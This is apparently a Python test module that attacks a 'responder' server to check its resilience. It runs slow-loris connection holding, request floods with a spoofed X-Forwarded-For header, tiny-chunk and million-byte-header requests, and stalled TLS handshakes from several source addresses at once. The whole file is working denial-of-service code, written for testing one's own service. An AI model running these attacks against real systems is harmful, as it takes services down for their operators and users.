"""What would somebody do who wants the responder to fail, or to work for him? Each from an address of its own.

python -m tests.responder.attacks HOST PORT SECONDS SOURCE...
"""

from __future__ import annotations

import contextlib
import itertools
import socket
import ssl
import sys
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import ExitStack, closing
from dataclasses import dataclass

REQUESTS = 4_000
_PATIENCE_S = 20.0
_HOLDERS = 60

_TLS = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
_TLS.check_hostname = False
_TLS.verify_mode = ssl.CERT_NONE


@dataclass(frozen=True, slots=True)
class Target:
    host: str
    port: int

    def plug(self, source: str) -> socket.socket:
        return socket.create_connection((self.host, self.port), timeout=_PATIENCE_S, source_address=(source, 0))


@contextlib.contextmanager
def secure(at: Target, source: str) -> Iterator[ssl.SSLSocket]:
    """A connection with TLS; closed too where the handshake is cut."""
    with closing(_TLS.wrap_socket(at.plug(source), do_handshake_on_connect=False)) as plug:
        plug.do_handshake()
        yield plug


def flood(at: Target, source: str, count: int) -> None:
    """Requests, each of a port that it must not dial, on connections as long as they last."""
    done = 0
    while done < count:
        done += 100
        with contextlib.suppress(OSError), secure(at, source) as plug:
            plug.sendall(b"GET /port/25 HTTP/1.1\r\nHost: x\r\nX-Forwarded-For: 8.8.8.8\r\n\r\n" * 100)
            while plug.recv(65536):
                pass


def hold(at: Target, source: str, count: int, seconds: float) -> None:
    """Slow-loris: many connections, each a byte at a time, and opened again when they are cut."""
    with ExitStack() as stack:
        plugs: list[socket.socket] = []
        ends_s = time.monotonic() + seconds
        while time.monotonic() < ends_s:
            while len(plugs) < count:
                with contextlib.suppress(OSError):
                    plugs.append(stack.enter_context(closing(at.plug(source))))
                    continue
                break
            for plug in list(plugs):
                try:
                    plug.sendall(b"\x16")
                except OSError:
                    plugs.remove(plug)
            time.sleep(0.1)


def tiny_chunks(at: Target, source: str, seconds: float) -> None:
    """Each read of them is thousands of pieces of work."""
    ends_s = time.monotonic() + seconds
    while time.monotonic() < ends_s:
        with contextlib.suppress(OSError), secure(at, source) as plug:
            plug.sendall(b"POST /empty HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n")
            while time.monotonic() < ends_s:
                plug.sendall(b"1\r\nx\r\n" * 20_000)


def busy(at: Target, sources: list[str], seconds: float) -> None:
    """Places taken by what never comes: uploads without a body, and downloads that nobody reads, with much sent ahead.
    Each source takes all that it gets, and takes it again."""
    ends_s = time.monotonic() + seconds
    upload = b"POST /empty HTTP/1.1\r\nHost: x\r\nContent-Length: 1\r\n\r\n"
    download = b"GET /garbage?ckSize=64 HTTP/1.1\r\nHost: x\r\n\r\n" + b"GET /ip HTTP/1.1\r\nHost: x\r\n\r\n" * 100
    while time.monotonic() < ends_s:
        with ExitStack() as stack:
            for what, source in itertools.product([upload, download] * 6, sources):
                with contextlib.suppress(OSError):
                    stack.enter_context(secure(at, source)).sendall(what)
            time.sleep(1.0)


def dialled(at: Target, source: str, seconds: float) -> None:
    """A peer that has itself dialled, and then holds the handshake up."""
    ends_s = time.monotonic() + seconds
    with contextlib.suppress(OSError), socket.create_server((source, 8443)), ExitStack() as stack:
        while time.monotonic() < ends_s:
            with contextlib.suppress(OSError):
                question = b"GET /port/8443?certificate=1 HTTP/1.1\r\nHost: x\r\n\r\n"
                stack.enter_context(secure(at, source)).sendall(question)
            time.sleep(0.05)


def huge_heads(at: Target, source: str, seconds: float) -> None:
    ends_s = time.monotonic() + seconds
    while time.monotonic() < ends_s:
        with contextlib.suppress(OSError), secure(at, source) as plug:
            plug.sendall(b"GET /ip HTTP/1.1\r\nX: " + b"x" * 1_000_000)


def all_of(at: Target, seconds: float, sources: list[str]) -> list[Callable[[], None]]:
    """At least six sources: a flood, tiny chunks, huge heads, one that is dialled; the rest hold connections, and two
    of them places too."""
    flooder, chunker, heads, peer, *holders = sources
    return [
        lambda: flood(at, flooder, REQUESTS),
        lambda: tiny_chunks(at, chunker, seconds),
        lambda: huge_heads(at, heads, seconds),
        lambda: dialled(at, peer, seconds),
        lambda: busy(at, [peer, *holders[:2]], seconds),
        *(lambda source=each: hold(at, source, _HOLDERS, seconds) for each in holders),
    ]


def main() -> int:
    host, port, seconds, *sources = sys.argv[1:]
    threads = [threading.Thread(target=each) for each in all_of(Target(host, int(port)), float(seconds), sources)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return 0


if __name__ == "__main__":
    sys.exit(main())
